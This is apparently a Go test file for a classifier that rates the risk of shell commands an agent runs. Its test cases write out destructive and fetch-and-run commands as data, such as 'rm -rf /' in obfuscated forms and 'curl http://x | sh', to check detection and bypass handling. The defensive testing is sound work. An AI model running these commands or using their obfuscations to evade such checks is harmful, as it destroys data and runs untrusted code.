package shellrisk

import (
	"bufio"
	"os"
	"slices"
	"strconv"
	"strings"
	"syscall"
	"testing"
	"time"

	"mvdan.cc/sh/v3/syntax"
)

// corpusCase is one line of testdata/corpus.tsv.
type corpusCase struct {
	line     int
	expected string
	reason   string
	command  string
}

func loadCorpus(t testing.TB) []corpusCase {
	t.Helper()
	f, err := os.Open("testdata/corpus.tsv")
	if err != nil {
		t.Fatalf("open corpus: %v", err)
	}
	t.Cleanup(func() { f.Close() })
	var out []corpusCase
	sc := bufio.NewScanner(f)
	for n := 1; sc.Scan(); n++ {
		line := sc.Text()
		if line == "" || strings.HasPrefix(line, "#") {
			continue
		}
		parts := strings.SplitN(line, "\t", 3)
		if len(parts) != 3 {
			t.Fatalf("corpus line %d: want 3 tab-separated fields, got %d", n, len(parts))
		}
		cmd := parts[2]
		if lit, ok := strings.CutPrefix(cmd, "go:"); ok {
			if cmd, err = strconv.Unquote(lit); err != nil {
				t.Fatalf("corpus line %d: unquote: %v", n, err)
			}
		}
		out = append(out, corpusCase{line: n, expected: parts[0], reason: parts[1], command: cmd})
	}
	if err := sc.Err(); err != nil {
		t.Fatalf("read corpus: %v", err)
	}
	return out
}

// TestCorpus asserts the whole bypass corpus: every dangerous command in its plain and
// obfuscated forms, and the benign look-alikes that must not be flagged.
func TestCorpus(t *testing.T) {
	t.Parallel()
	cases := loadCorpus(t)
	if len(cases) < 300 {
		t.Fatalf("corpus has %d cases, want hundreds", len(cases))
	}
	for _, tc := range cases {
		v := Classify(tc.command)
		want := tc.expected
		wantHard := want == "hard"
		if wantHard {
			want = "dangerous"
		}
		ok := v.Risk.String() == want && v.HardDeny == wantHard
		if tc.reason != "-" && !slices.Contains(v.Codes(), tc.reason) {
			ok = false
		}
		if !ok {
			t.Errorf("line %d: %q: got %s hard=%v %v, want %s reason %s", tc.line, tc.command, v.Risk, v.HardDeny, v.Codes(), tc.expected, tc.reason)
		}
	}
}

func TestClassifyTable(t *testing.T) {
	t.Parallel()
	tests := []struct {
		name    string
		command string
		risk    Risk
		codes   []string
		hard    bool
		parsed  bool
	}{
		{name: "read only", command: "ls -la", risk: RiskSafe, parsed: true},
		{name: "quoted text is data", command: `git commit -m "rm -rf /"`, risk: RiskWrite, codes: []string{"writes_files"}, parsed: true},
		{name: "workspace delete", command: "rm -rf build/", risk: RiskWrite, codes: []string{"deletes_files"}, parsed: true},
		{name: "root delete", command: "rm -rf /", risk: RiskDangerous, codes: []string{"recursive_delete_root"}, hard: true, parsed: true},
		{name: "cd then glob", command: "cd / && rm -rf *", risk: RiskDangerous, codes: []string{"recursive_delete_root"}, hard: true, parsed: true},
		{name: "cd up then delete", command: "cd build && rm -rf ../..", risk: RiskDangerous, codes: []string{"delete_outside_workspace"}, parsed: true},
		{name: "ifs", command: "rm${IFS}-rf${IFS}/", risk: RiskDangerous, codes: []string{"recursive_delete_root"}, hard: true, parsed: true},
		{name: "heredoc to shell", command: "bash <<'EOF'\nrm -rf /\nEOF", risk: RiskDangerous, codes: []string{"recursive_delete_root"}, hard: true, parsed: true},
		{name: "heredoc substitution runs", command: "cat <<EOF\n$(rm -rf /)\nEOF", risk: RiskDangerous, codes: []string{"recursive_delete_root"}, hard: true, parsed: true},
		{name: "quoted heredoc is data", command: "cat <<'EOF'\n$(rm -rf /)\nEOF", risk: RiskSafe, parsed: true},
		{name: "dynamic heredoc to shell", command: "bash <<EOF\n$PAYLOAD\nEOF", risk: RiskDangerous, codes: []string{"pipe_to_shell"}, parsed: true},
		{name: "process substitution out", command: "echo id | tee >(sh)", risk: RiskDangerous, codes: []string{"pipe_to_shell"}, parsed: true},
		{name: "nested shells", command: `sh -c "bash -c 'eval \"rm -rf /\"'"`, risk: RiskDangerous, codes: []string{"recursive_delete_root"}, hard: true, parsed: true},
		{name: "trap", command: "trap 'rm -rf ~' EXIT", risk: RiskDangerous, codes: []string{"recursive_delete_root"}, hard: true, parsed: true},
		{name: "alias", command: "alias ls='rm -rf /'", risk: RiskDangerous, codes: []string{"recursive_delete_root"}, hard: true, parsed: true},
		{name: "unparseable", command: "echo 'oops", risk: RiskDangerous, codes: []string{"parse_error"}, parsed: false},
		{name: "uppercase on case-insensitive fs", command: "RM -RF /", risk: RiskDangerous, codes: []string{"recursive_delete_root"}, hard: true, parsed: true},
		{name: "version suffix", command: "python3.12 -c 'import os'", risk: RiskExec, codes: []string{"interpreter_code"}, parsed: true},
		{name: "script named like a program", command: "/tmp/x/rm -rf /", risk: RiskDangerous, codes: []string{"runs_script", "recursive_delete_root"}, hard: true, parsed: true},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			t.Parallel()
			v := Classify(tc.command)
			if v.Risk != tc.risk || v.HardDeny != tc.hard || v.Parsed != tc.parsed {
				t.Fatalf("Classify(%q) = risk %s hard %v parsed %v %v; want %s hard %v parsed %v", tc.command, v.Risk, v.HardDeny, v.Parsed, v.Codes(), tc.risk, tc.hard, tc.parsed)
			}
			for _, c := range tc.codes {
				if !slices.Contains(v.Codes(), c) {
					t.Errorf("Classify(%q) codes %v, missing %s", tc.command, v.Codes(), c)
				}
			}
		})
	}
}

func TestReasonsCarrySegments(t *testing.T) {
	t.Parallel()
	v := Classify("ls && curl http://x | sh; echo done")
	for _, r := range v.Reasons {
		if r.Segment == "" {
			t.Errorf("reason %s has no segment", r.Code)
		}
	}
	want := map[string]string{"network_access": "curl http://x", "pipe_to_shell": "sh"}
	for _, r := range v.Reasons {
		if seg, ok := want[r.Code]; ok && r.Segment != seg {
			t.Errorf("reason %s segment %q, want %q", r.Code, r.Segment, seg)
		}
	}
}

func TestUserRules(t *testing.T) {
	t.Parallel()
	extra, err := ParseRules([]byte(`
[reasons.read_only]
programs = ["mytool"]

[reasons.force_push]
hard_deny = true

[reasons.recursive_delete_root]
hard_deny = false

[programs.deploy]
reason = "publishes_package"
`))
	if err != nil {
		t.Fatalf("parse rules: %v", err)
	}
	c, err := NewClassifier(extra)
	if err != nil {
		t.Fatalf("new classifier: %v", err)
	}
	tests := []struct {
		command string
		risk    Risk
		hard    bool
	}{
		{"mytool --all", RiskSafe, false},
		{"git push --force", RiskDangerous, true},
		{"deploy prod", RiskDangerous, false},
		// A user cannot take a reason off the hard-deny list.
		{"rm -rf /", RiskDangerous, true},
	}
	for _, tc := range tests {
		v := c.Classify(tc.command)
		if v.Risk != tc.risk || v.HardDeny != tc.hard {
			t.Errorf("%q: risk %s hard %v %v, want %s hard %v", tc.command, v.Risk, v.HardDeny, v.Codes(), tc.risk, tc.hard)
		}
	}
}

func TestRulesErrors(t *testing.T) {
	t.Parallel()
	tests := []struct {
		name, rules, want string
	}{
		{"unknown key", "[programs.x]\nreasn = \"read_only\"\n", "unknown keys"},
		{"unknown reason", "[programs.x]\nreason = \"nope\"\n", `unknown reason "nope"`},
		{"bad risk", "[reasons.x]\nrisk = \"meh\"\n", "reasons.x.risk"},
		{"bad paths", "[programs.x]\npaths = \"eat\"\n", "programs.x.paths"},
		{"bad flag reason", "[programs.x.flags]\n\"-f\" = \"nope\"\n", "programs.x.flags"},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			t.Parallel()
			rc, err := ParseRules([]byte(tc.rules))
			if err == nil {
				_, err = NewClassifier(rc)
			}
			if err == nil || !strings.Contains(err.Error(), tc.want) {
				t.Fatalf("error %v, want it to mention %q", err, tc.want)
			}
		})
	}
}

// typical is a command an agent runs many times a session.
const typical = `cd src && grep -rn "TODO" --include='*.go' . | sort | head -n 20 > /tmp/todo.txt`

// longScript is a 4 KB pipeline script.
func longScript() string {
	var b strings.Builder
	for b.Len() < 4096 {
		b.WriteString("if [ -f go.mod ]; then go vet ./... 2>&1 | tee -a vet.log | grep -v '^#' | sort -u; fi\n")
		b.WriteString("for f in $(git ls-files '*.go'); do wc -l \"$f\" | awk '{s+=$1} END {print s}'; done\n")
		b.WriteString("find . -name '*.tmp' -mtime +7 -exec rm -f {} + && echo cleaned >> clean.log\n")
	}
	return b.String()
}

// cpuTime is the CPU time the process has used, in every thread (the garbage collector's
// included).
func cpuTime(b *testing.B) time.Duration {
	var ru syscall.Rusage
	if err := syscall.Getrusage(syscall.RUSAGE_SELF, &ru); err != nil {
		b.Fatal(err)
	}
	return time.Duration(ru.Utime.Nano() + ru.Stime.Nano())
}

// loopCPU runs fn in b.Loop and reports, beside the wall time, the CPU time per
// operation: on a machine shared with other work the wall time includes the time the
// benchmark waited for a core, the CPU time does not.
func loopCPU(b *testing.B, fn func()) {
	b.ReportAllocs()
	start, n := cpuTime(b), 0
	for b.Loop() {
		fn()
		n++
	}
	b.ReportMetric(float64(cpuTime(b)-start)/float64(n), "cpu-ns/op")
}

func BenchmarkClassify(b *testing.B) {
	c, err := NewClassifier(RulesConfig{})
	if err != nil {
		b.Fatal(err)
	}
	long := longScript()
	b.Run("typical", func(b *testing.B) {
		loopCPU(b, func() { c.Classify(typical) })
	})
	b.Run("long_4KB", func(b *testing.B) {
		b.SetBytes(int64(len(long)))
		loopCPU(b, func() { c.Classify(long) })
	})
	// The raw alternative: parsing alone with the parser as its package hands it out, the
	// floor of any judgement on a parsed shell.
	rawParse := func(b *testing.B, src string) {
		p := syntax.NewParser(syntax.Variant(syntax.LangBash), syntax.KeepComments(true))
		if _, err := p.Parse(strings.NewReader(src), ""); err != nil {
			b.Fatal(err)
		}
	}
	b.Run("parse_only_typical", func(b *testing.B) {
		loopCPU(b, func() { rawParse(b, typical) })
	})
	b.Run("parse_only_long_4KB", func(b *testing.B) {
		b.SetBytes(int64(len(long)))
		loopCPU(b, func() { rawParse(b, long) })
	})
}

// TestCommands checks the simple commands a verdict lists: what a differential test
// compares with what a real shell ran.
func TestCommands(t *testing.T) {
	t.Parallel()
	type cmd struct {
		name    string
		argv    []string
		unknown []int
	}
	for _, tc := range []struct {
		command string
		want    []cmd
	}{
		{`ls -la`, []cmd{{"ls", []string{"ls", "-la"}, nil}}},
		{`x=rm; /bin/$x -rf 'a b'`, []cmd{{"rm", []string{"/bin/rm", "-rf", "a b"}, nil}}},
		// dash does not expand braces: the POSIX reading lists what it runs too.
		{`sudo r''m {a,b}`, []cmd{{"sudo", []string{"sudo", "rm", "a", "b"}, nil}, {"rm", []string{"rm", "a", "b"}, nil},
			{"sudo", []string{"sudo", "rm", "{a,b}"}, nil}, {"rm", []string{"rm", "{a,b}"}, nil}}},
		{`$x foo "$(id)" *.go`, []cmd{{"id", []string{"id"}, nil}, {"", []string{UnknownMark, "foo", UnknownMark, "*.go"}, []int{0, 2, 3}}}},
		{`sh -c 'cat ~/f | wc -l'`, []cmd{{"sh", []string{"sh", "-c", "cat ~/f | wc -l"}, nil}, {"cat", []string{"cat", "~/f"}, []int{1}}, {"wc", []string{"wc", "-l"}, nil}}},
		{`python3.12 -V`, []cmd{{"python3", []string{"python3.12", "-V"}, nil}}},
		{`nosuchprog a`, []cmd{{"nosuchprog", []string{"nosuchprog", "a"}, nil}}},
		{`if true; then echo "$((1+2))"; fi`, []cmd{{"true", []string{"true"}, nil}, {"echo", []string{"echo", UnknownMark}, []int{1}}}},
	} {
		t.Run(tc.command, func(t *testing.T) {
			t.Parallel()
			v := Classify(tc.command)
			var got []cmd
			for _, c := range v.Commands {
				if c.Dynamic != (len(c.Unknown) > 0) {
					t.Errorf("%q: dynamic %v with unknown %v", c.Argv, c.Dynamic, c.Unknown)
				}
				got = append(got, cmd{c.Name, c.Argv, c.Unknown})
			}
			if !slices.EqualFunc(got, tc.want, func(a, b cmd) bool {
				return a.name == b.name && slices.Equal(a.argv, b.argv) && slices.Equal(a.unknown, b.unknown)
			}) {
				t.Errorf("commands:\n got %+v\nwant %+v", got, tc.want)
			}
		})
	}
	for _, bad := range []string{`echo 'unterminated`, "a\x00b ("} {
		v := Classify(bad)
		if v.Parsed || len(v.Commands) != 0 || v.Commands == nil {
			t.Errorf("%q: parsed %v, commands %v: want not parsed and an empty list", bad, v.Parsed, v.Commands)
		}
	}
}

// TestClassifyRecovers checks that a failure inside the walk is a dangerous verdict for
// that command, not a panic: a classifier without rules fails on every command.
func TestClassifyRecovers(t *testing.T) {
	t.Parallel()
	v := (&Classifier{}).Classify("ls")
	if v.Parsed || v.Risk != RiskDangerous || !slices.Contains(v.Codes(), "internal_error") || !v.FailedClosed() {
		t.Fatalf("got %+v", v)
	}
	if v.Commands == nil || v.Reasons == nil {
		t.Fatal("nil lists")
	}
}

// TestFamilies checks that the corpus holds a section of cases for every family of issue
// 11 that a command alone can show (family 11, the policy's context, is TestContext), so
// that a family cannot lose its cases unnoticed.
func TestFamilies(t *testing.T) {
	t.Parallel()
	data, err := os.ReadFile("testdata/corpus.tsv")
	if err != nil {
		t.Fatal(err)
	}
	counts := map[string]int{}
	family := ""
	for _, line := range strings.Split(string(data), "\n") {
		if rest, ok := strings.CutPrefix(line, "# --- Issue 11, family "); ok {
			family, _, _ = strings.Cut(rest, ":")
			continue
		}
		if strings.HasPrefix(line, "# --- ") {
			family = ""
		}
		if family != "" && line != "" && !strings.HasPrefix(line, "#") {
			counts[family]++
		}
	}
	for _, f := range []string{"1", "2", "3", "4", "5", "6", "7", "8", "9", "10", "12"} {
		if counts[f] < 5 {
			t.Errorf("family %s has %d corpus cases, want at least 5", f, counts[f])
		}
	}
}

// BenchmarkBuildClassifier times building the classifier of the embedded rules, which a cold
// process pays once (its programs' rules compile on first use).
func BenchmarkBuildClassifier(b *testing.B) {
	b.ReportAllocs()
	for i := 0; i < b.N; i++ {
		if _, err := buildClassifier(RulesConfig{}); err != nil {
			b.Fatal(err)
		}
	}
}
